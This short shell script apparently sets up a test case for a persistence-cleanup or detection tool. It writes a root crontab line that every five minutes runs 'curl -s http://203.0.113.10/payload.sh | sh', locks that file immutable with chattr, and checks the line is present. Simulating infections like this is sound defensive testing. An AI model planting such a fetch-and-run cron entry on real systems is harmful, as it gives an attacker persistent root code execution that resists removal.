#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/spool/cron/crontabs /root/.ssh && touch /etc/ld.so.preload /root/.ssh/authorized_keys /var/spool/cron/crontabs/root
for f in /etc/ld.so.preload /root/.ssh/authorized_keys /var/spool/cron/crontabs/root /etc/crontab /etc/cron.d /tmp /var/tmp; do chattr -iau $f 2>/dev/null || true; done
rm -f /etc/ld.so.preload
echo '*/5 * * * * curl -s http://203.0.113.10/payload.sh | sh' >/var/spool/cron/crontabs/root
chattr +i /var/spool/cron/crontabs/root 2>/dev/null || true
grep -q payload /var/spool/cron/crontabs/root
took_place
